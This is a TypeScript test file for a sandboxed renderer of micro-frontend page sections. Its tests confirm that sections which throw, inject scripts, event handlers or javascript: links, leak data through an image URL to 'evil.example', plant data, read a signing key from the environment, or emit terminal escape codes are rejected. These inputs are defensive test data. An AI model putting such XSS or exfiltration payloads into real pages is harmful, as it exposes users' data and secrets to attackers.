import { createHash } from 'node:crypto';
import { NotPrerendered } from './rendered-page';
import { renderPart, type AskedCall, type PartRequest, type PartSources, type RenderedPart } from './render-part';
import { RendererProcess, type ServerModule } from './sandbox/renderer-process';

const moduleOf = (text: string): ServerModule => ({ hash: createHash('sha256').update(text).digest('hex'), text });

/** A host that asks for two calls, the second by the answer to the first, and lets the section draw their values. */
const HOST = moduleOf(`
  export const shared = { react: { version: '19' } };
  export async function renderPage({ answers, boot, openSection }) {
    const asked = [{ path: '/api/v1/games?m=' + boot.merchant.code, headers: { 'X-Merchant': boot.merchant.code } }];
    const games = answers[asked[0].path];
    if (games) asked.push({ path: '/api/v1/vendors/' + games.first, headers: {} });
    const { draw } = await openSection('mfe-games');
    const page = await draw({ answers, games });
    return {
      html: '<main class="list">' + page + '</main>',
      styles: [{ package: 'mfe-games', version: '1.0.0', file: 'list.css' }],
      asked,
      pageAnswers: JSON.stringify({ answers: { list: globalThis.planted ?? games } }),
      renderedFor: '{"path":"/m/home"}',
      isComplete: asked.every(({ path }) => path in answers),
      title: 'Home',
    };
  }
`);

const GAMES = { first: 'jili', names: ['Fortune', 'Dragon'], picture: 'https://cdn.example/a.webp' };
const ANSWERS: Readonly<Record<string, unknown>> = {
  '/api/v1/games?m=aurora': GAMES,
  '/api/v1/vendors/jili': ['JILI'],
};

const renderer = new RendererProcess({ timeMs: 60_000, memoryBytes: 400 * 1024 * 1024, answerBytes: 3_000_000 });
afterAll(() => renderer.close());

function sourcesOf(answers = ANSWERS): PartSources & { readonly calls: AskedCall[] } {
  const calls: AskedCall[] = [];
  return {
    calls,
    ask: async (asked) => {
      calls.push(...asked);
      return Object.fromEntries(asked.flatMap(({ path }) => (path in answers ? [[path, answers[path]]] : [])));
    },
    style: async () => ({ text: '.list{color:red}.other{color:blue}', base: '/r/mfe-games/' }),
  };
}

const requestOf = (draw: string): PartRequest => ({
  host: HOST,
  sections: { 'mfe-games': moduleOf(`import { version } from 'react'; export const remote = { draw: ${draw} };`) },
  path: '/m/home',
  boot: { merchant: { code: 'aurora' } },
  language: 'EN',
  now: 0,
});

const drawn = (draw: string, sources = sourcesOf()): Promise<RenderedPart> =>
  renderPart(renderer, requestOf(draw), sources);

const NAMES =
  '({ games }) => games === undefined ? "" : games.names.map((name) => `<b style="top:0">${name}</b>`).join("")';

it('renders a page with the answers to what it asks for, each asked once', async () => {
  const sources = sourcesOf();
  expect(await drawn(NAMES, sources)).toEqual({
    html: '<main class="list"><b style="top:0">Fortune</b><b style="top:0">Dragon</b></main>',
    title: 'Home',
    style: '.list{color:red}',
    attributes: ['top:0'],
    answers: JSON.stringify({ answers: { list: GAMES } }),
    renderedFor: '{"path":"/m/home"}',
    given: ANSWERS,
  });
  expect(sources.calls.map(({ path }) => path)).toEqual(Object.keys(ANSWERS));
});

it.each([
  ['throws', '() => { throw new Error("no luck") }', 'no luck'],
  ['needs the DOM', '() => window.innerWidth', 'window is not defined'],
  ['writes a script', '() => "<script>alert(1)</script>"', 'the element script'],
  ['writes a handler', '() => `<b onclick="alert(1)"></b>`', 'the attribute onclick'],
  ['writes an action of script', '() => `<a href="javascript:alert(1)"></a>`', 'javascript:'],
  ['sends what it sees elsewhere', '() => `<img src="https://evil.example/?a"/>`', '//evil.example'],
  ['adds to the answers', '() => { globalThis.planted = { secret: "of another" }; return "" }', 'did not send'],
  ['reads the environment', '() => process.env.MFE_SIGNING_KEY', 'process is not defined'],
])('has no part where a section %s, and says why', async (_what, draw, why) => {
  await expect(drawn(draw)).rejects.toThrow(why);
  await expect(drawn(draw)).rejects.toThrow(NotPrerendered);
});

it('has no part where the gateway has no answer', async () => {
  const { '/api/v1/vendors/jili': _gone, ...rest } = ANSWERS;
  await expect(drawn(NAMES, sourcesOf(rest))).rejects.toThrow('the gateway has no answer to /api/v1/vendors/jili');
});

it('says nothing to a terminal in the words of a section', async () => {
  await expect(drawn('() => { throw new Error("a\\u001b[2Jb\\nc") }')).rejects.toThrow(/^a \[2Jb c$/);
});
